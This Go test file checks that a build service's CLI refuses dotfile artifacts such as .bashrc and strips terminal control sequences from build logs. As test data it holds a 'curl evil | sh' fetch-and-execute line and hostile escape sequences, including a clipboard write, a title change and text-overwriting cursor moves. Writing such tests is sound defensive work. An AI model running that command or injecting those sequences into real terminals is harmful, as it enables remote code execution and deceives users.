package cli

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/freeagent-build/freeagent/api"
)

// TestDownloadIntoBuildDirectory: without -o the artifacts land in
// ./<build-id>/, never among the project's files; a dotfile artifact (a
// .bashrc, a .npmrc dropped into the project) is refused and nothing is
// written. (t.Chdir: not parallel.)
func TestDownloadIntoBuildDirectory(t *testing.T) {
	e := newEnv(t)
	cwd := t.TempDir()
	t.Chdir(cwd)
	w := e.worker("android")

	id := e.queueBuild(project(t, map[string]string{"package.json": `{"name":"demo"}`}), "android")
	job := w.claim()
	apk := randomBytes(t, 1<<20+3)
	w.finish(job, true, "app-release.apk", apk)
	r := e.mustRun(0, nil, "download", id)
	if got, _ := os.ReadFile(filepath.Join(cwd, id, "app-release.apk")); !bytes.Equal(got, apk) {
		t.Fatalf("the artifact is not in ./%s/:\n%s", id, r)
	}
	if entries, _ := os.ReadDir(cwd); len(entries) != 1 || entries[0].Name() != id || !entries[0].IsDir() {
		t.Fatalf("the working directory holds %v, want only the directory %s", entries, id)
	}

	for _, name := range []string{".bashrc", ".npmrc"} {
		id := e.queueBuild(project(t, map[string]string{"package.json": `{"name":"demo"}`}), "android")
		job := w.claim()
		w.finish(job, true, name, []byte("curl evil | sh\n"))
		if b := jsonOf[api.Build](t, e.mustRun(0, nil, "status", id, "--json")); len(b.Artifacts) != 1 || b.Artifacts[0].Name != name {
			t.Fatalf("the controller stored %+v, want the artifact %q (the test needs it to reach the CLI)", b.Artifacts, name)
		}
		out := t.TempDir()
		for _, args := range [][]string{{"download", id}, {"download", id, "-o", out}} {
			r := e.mustRun(ExitFailed, nil, args...)
			if !strings.Contains(r.stderr, "refusing artifact") || !strings.Contains(r.stderr, name) {
				t.Errorf("%v: the refusal does not name the artifact:\n%s", args, r)
			}
		}
		for _, dir := range []string{out, filepath.Join(cwd, id)} {
			if entries, _ := os.ReadDir(dir); len(entries) != 0 {
				t.Errorf("%s was written to despite the refusal: %v", dir, entries)
			}
		}
	}
}

// TestLogsStripTerminalControls: a build can print anything; what the CLI
// prints of it (logs, logs -f, submit --wait --logs, the error of status)
// carries no escape sequence or control character but \n and \t, while
// --json keeps the bytes (JSON escapes them).
func TestLogsStripTerminalControls(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	w := e.worker("android")
	id := e.queueBuild(project(t, map[string]string{"package.json": `{"name":"demo"}`}), "android")
	job := w.claim()
	v := w.vm(job)
	hostile := "\x1b[31mred\x1b[0m\tok\n\x1b]0;pwned title\x07\x1b]52;c;ZXZpbA==\x07clip\n\x1b[2J\x1b[1A\x1b[Kfaked\rover\x08\x00\n" +
		"\u009b2Jc1 \x1bPdcs\x1b\\done\n"
	v.log(hostile)
	w.finish(job, true, "app.apk", []byte("apk"))
	// The event stream carries a bare CR as a line break (the controller
	// never lets it reach the stream raw); the plain GETs carry the bytes.
	for args, want := range map[*[]string]string{
		{"logs", id}:       "red\tok\nclip\nfakedover\nc1 done\n",
		{"logs", id, "-f"}: "red\tok\nclip\nfaked\nover\nc1 done\n",
	} {
		args := *args
		r := e.mustRun(0, nil, args...)
		if r.stdout != want {
			t.Errorf("%v printed %q, want %q", args, r.stdout, want)
		}
		if strings.ContainsAny(r.stdout+r.stderr, "\x1b\x07\x08\x00\r\u009b") {
			t.Errorf("%v printed a control character: %q", args, r.stdout+r.stderr)
		}
	}
	r := e.mustRun(0, nil, "logs", id, "--json")
	if !strings.Contains(r.stdout, `\u001b]0;pwned title`) {
		t.Errorf("--json changed the log's bytes: %s", r.stdout)
	}
}
